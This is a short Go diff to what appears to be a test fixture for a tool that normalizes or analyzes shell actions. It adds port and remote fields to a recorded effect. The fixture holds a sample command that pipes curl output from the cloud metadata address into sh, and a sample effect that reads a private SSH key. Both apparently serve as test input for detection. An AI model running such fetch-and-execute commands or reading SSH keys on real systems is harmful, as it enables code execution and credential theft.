@@ -31,7 +31,7 @@ func richAction() *normalize.Action {
 		Strings:   []string{"curl -s http://169.254.169.254/ | sh"},
 		Truncated: true,
 		Effects: []normalize.Effect{{Kind: normalize.EffectRead, Target: "/home/u/.ssh/id_rsa", Program: "cat", Detail: "ssh_key",
-			InWorkspace: true, Sensitive: true, Unresolved: true}},
+			InWorkspace: true, Sensitive: true, Unresolved: true, Port: 22, Remote: "ssh:h"}},
 		Flows:           []normalize.Flow{{From: 0, To: 1, Via: "pipe"}},
 		Unresolved:      []string{"$X"},
 		UnknownPrograms: []string{"frob"},
